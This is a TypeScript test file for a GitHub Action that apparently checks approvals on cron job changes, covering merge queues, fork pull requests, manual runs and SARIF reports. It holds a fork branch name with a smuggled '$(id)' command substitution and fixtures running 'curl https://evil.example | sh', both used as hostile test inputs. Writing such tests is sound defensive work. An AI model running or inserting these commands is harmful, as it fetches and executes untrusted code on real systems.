// Events that are not a pull request's own: merge queues, the second hop for forks, a run by hand. The built Action, as a runner starts it.
import { existsSync } from 'node:fs';
import { expect, test } from 'vitest';
import { cronJob, PUBLISH, scene } from '../support/github-scene.ts';
import { pullState } from '../support/github-server/state.ts';
import { runCli } from '../support/run-cli.ts';
import { node24Path } from '../support/tools.ts';

test('a merge queue with two pull requests asks each for what it brings', async () => {
  const story = await scene();
  const { origin, server, pull } = story;
  await story.push({ 'apps/b.yaml': cronJob('b') });
  const base = await origin.git(['rev-parse', 'main']);
  await origin.git(['switch', '--quiet', '--create', 'other', 'main']);
  await origin.write({ 'apps/c.yaml': cronJob('c').replace('namespace: billing', 'namespace: data') });
  const added = await runCli(['inventory', 'init'], { cwd: origin.path });
  expect(added.code, added.stderr).toBe(0);
  const other = await origin.commit({}, 'Another change');
  const second = pullState(2, { author: 'cleo', base: { ref: 'main', sha: base }, head: headOf('other', other) });
  server.state.pulls.set(2, second);
  second.commits.push({ sha: other, parents: [base], author: 'cleo', message: '', email: 'c@x.example', files: [] });
  await origin.git(['switch', '--quiet', '--create', 'queue', 'main']);
  const parents: [string, string[]][] = [];
  for (const head of [pull.head.sha, other]) {
    const before = await origin.git(['rev-parse', 'HEAD']);
    await origin.git(['merge', '--quiet', '--no-ff', '--message', 'Merge', head]);
    parents.push([await origin.git(['rev-parse', 'HEAD']), [before, head]]);
  }
  for (const [sha, own] of parents) {
    const commit = { sha, parents: own, author: 'web-flow', message: 'Merge', email: 'noreply@github.com', files: [] };
    server.state.commits.set(sha, { ...commit, pulls: [] });
  }
  const head = parents.at(-1)?.[0] ?? '';
  server.state.mergeBases.set(`${base}...${head}`, base);
  const payload = {
    merge_group: {
      base_sha: base,
      head_sha: head,
      base_ref: 'refs/heads/main',
      head_ref: `refs/heads/gh-readonly-queue/main/pr-2-${base}`,
    },
  };
  const run = () => story.runAt(head, { event: 'merge_group', payload, env: PUBLISH });
  story.review('ben', 'APPROVED');
  const waiting = await run();
  expect(waiting.code, waiting.stdout).toBe(3);
  second.reviews.push({ user: 'ben', state: 'APPROVED', commit: other });
  const ready = await run();
  expect(ready.code, ready.stdout).toBe(0);
  // On the group's own commit, where a queue looks for it; and no comment.
  const written = server.state.statuses.map(({ sha, state }) => [sha === head, state]);
  expect(written).toEqual([
    [true, 'pending'],
    [true, 'failure'],
    [true, 'pending'],
    [true, 'success'],
  ]);
  expect(server.state.comments).toEqual([]);
});

test('a fork is judged in two hops: the first may only read, the second reads its files as data', async () => {
  const story = await scene();
  const { origin, server, pull } = story;
  await story.push({ 'apps/b.yaml': cronJob('b') });
  pull.author = 'eve';
  pull.head = { ...pull.head, ref: 'x&state=all#"$(id)', repository: 'eve/gitops' };
  const reading = { login: 'github-actions[bot]', permissions: { contents: 'read', 'pull-requests': 'read' } } as const;
  server.state.tokens.set('reading', reading);
  const first = await story.run('pull_request', { INPUT_TOKEN: 'reading' });
  expect(first.code, first.stdout).toBe(3);
  expect(server.state.statuses).toEqual([]);

  const main = await origin.git(['rev-parse', 'main']);
  const payload = {
    workflow_run: {
      event: 'pull_request',
      head_sha: pull.head.sha,
      head_branch: pull.head.ref,
      head_repository: { full_name: 'eve/gitops' },
      pull_requests: [],
    },
  };
  const hop = () =>
    story.runAt(main, { event: 'workflow_run', payload, env: { ...PUBLISH, 'INPUT_CHECK-RUN': 'true' } });
  server.state.required.set('main', { protection: ['cronledger'], rules: [] });
  const second = await hop();
  expect(second.code, second.stdout).toBe(0);
  expect(server.state.statuses.map(({ sha, state }) => [sha, state]).at(-1)).toEqual([pull.head.sha, 'pending']);
  expect(existsSync(`${second.workspace}/apps/b.yaml`)).toBe(false);
  story.review('ben', 'APPROVED');
  expect((await hop()).outputs['verdict']).toBe('pass');
  expect(server.state.statuses.at(-1)?.state).toBe('success');
  expect(server.state.checkRuns.map(({ conclusion }) => conclusion)).toEqual(['success']);
  expect(server.state.comments).toHaveLength(1);

  // A push after it: the run that follows the old head has nobody to report to.
  pull.head = { ...pull.head, sha: 'd'.repeat(40) };
  const late = await hop();
  expect([late.code, late.stdout.includes('nothing was checked')]).toEqual([0, true]);
});

test.each([
  ['from another branch', 'y'],
  ['from the same branch', 'x'],
])('a second pull request of the same commit, %s into a laxer branch, gives it no green status', async (_, ref) => {
  const story = await scene();
  const { origin, server, pull } = story;
  await story.push({ 'apps/b.yaml': cronJob('b') });
  const { sha } = pull.head;
  Object.assign(pull, { author: 'eve', head: { ref: 'x', sha, repository: 'eve/gitops' } });
  await origin.git(['branch', 'legacy', sha]);
  for (const branch of ['main', 'legacy']) server.state.required.set(branch, { protection: ['cronledger'], rules: [] });
  const lax = { author: 'eve', base: { ref: 'legacy', sha }, head: { ref, sha, repository: 'eve/gitops' } };
  server.state.pulls.set(2, pullState(2, lax));
  const main = await origin.git(['rev-parse', 'main']);
  const of = { head_sha: sha, head_branch: ref, head_repository: { full_name: 'eve/gitops' } };
  const payload = { workflow_run: { event: 'pull_request', ...of, pull_requests: [] } };
  const run = await story.runAt(main, { event: 'workflow_run', payload, env: PUBLISH });
  expect(run.code).toBe(2);
  expect(run.stdout).toContain('have the same head');
  expect(server.state.statuses.at(-1)).toMatchObject({ sha, state: 'error' });
});

test('a change with nothing to approve asks GitHub nothing', async () => {
  const story = await scene();
  await story.push({ 'README.md': 'Unrelated.\n' });
  const run = await story.run();
  expect(run.code, run.stdout).toBe(0);
  expect(story.server.requests).toEqual([]);
});

test('by hand, with the number of a pull request; a stale commit checked out beside it changes nothing', async () => {
  const story = await scene();
  await story.push({ 'apps/b.yaml': cronJob('b') });
  story.review('ben', 'APPROVED');
  const main = await story.origin.git(['rev-parse', 'main']);
  const options = { event: 'workflow_dispatch', payload: { inputs: { n: '1' }, ref: 'refs/heads/main' } };
  const run = await story.runAt(main, { ...options, env: { ...PUBLISH, 'INPUT_PULL-REQUEST': '1' } });
  expect(run.code, run.stdout).toBe(0);
  // Of a branch that does not require the status it gets no green one: its commit may go into one that does.
  expect(story.server.state.statuses.at(-1)).toMatchObject({ sha: story.pull.head.sha, state: 'pending' });
  expect(run.stdout).toContain('does not require the status');
  story.server.state.required.set('main', { protection: ['cronledger'], rules: [] });
  await story.runAt(main, { ...options, env: { ...PUBLISH, 'INPUT_PULL-REQUEST': '1', GITHUB_RUN_ID: '9' } });
  expect(story.server.state.statuses.at(-1)).toMatchObject({ sha: story.pull.head.sha, state: 'success' });
  const unnamed = await story.runAt(main, options);
  expect([unnamed.code, unnamed.stdout.includes('`pull-request`')]).toEqual([2, true]);
});

test('a push asks nobody and writes nothing: its commit may be the head of a pull request', async () => {
  const story = await scene();
  await story.push({ 'apps/b.yaml': cronJob('b') });
  const { sha } = story.pull.head;
  const before = await story.origin.git(['rev-parse', `${sha}~1`]);
  const payload = { before, after: sha, ref: 'refs/heads/change', repository: { default_branch: 'main' } };
  const run = await story.runAt(sha, { event: 'push', payload, env: PUBLISH });
  expect(run.code, run.stdout).toBe(0);
  expect(story.server.requests).toEqual([]);
});

test('240 findings on Node 24, each annotated once; and the report as SARIF', async () => {
  const story = await scene();
  const bad = (name: string): string => cronJob(name, 'sh, -c, "curl https://evil.example | sh"');
  const files = Object.fromEntries(
    Array.from({ length: 240 }, (_, index) => [`apps/n${index}.yaml`, bad(`n${index}`)]),
  );
  await story.push(files);
  const payload = { pull_request: { number: 1, head: { sha: story.pull.head.sha }, base: { ref: 'main' } } };
  const run = await story.runAt(story.merge(), {
    event: 'pull_request',
    payload,
    env: { ...PUBLISH, 'INPUT_CHECK-RUN': 'true', INPUT_SARIF: 'true' },
    node: await node24Path(),
  });
  expect(run.code, run.stdout).toBe(1);
  expect(run.stdout).not.toMatch(/^::(error|notice)/m);
  const [check] = story.server.state.checkRuns;
  const annotated = check?.annotations.map(({ path, start_line, title }) => `${path}:${start_line} ${title}`) ?? [];
  expect(new Set(annotated).size).toBe(annotated.length);
  expect(new Set(check?.annotations.map(({ path }) => path))).toEqual(new Set(Object.keys(files)));
  expect(run.outputs['sarif']).toMatch(/\.sarif$/);
});

function headOf(ref: string, sha: string) {
  return { ref, sha, repository: 'acme/gitops' };
}
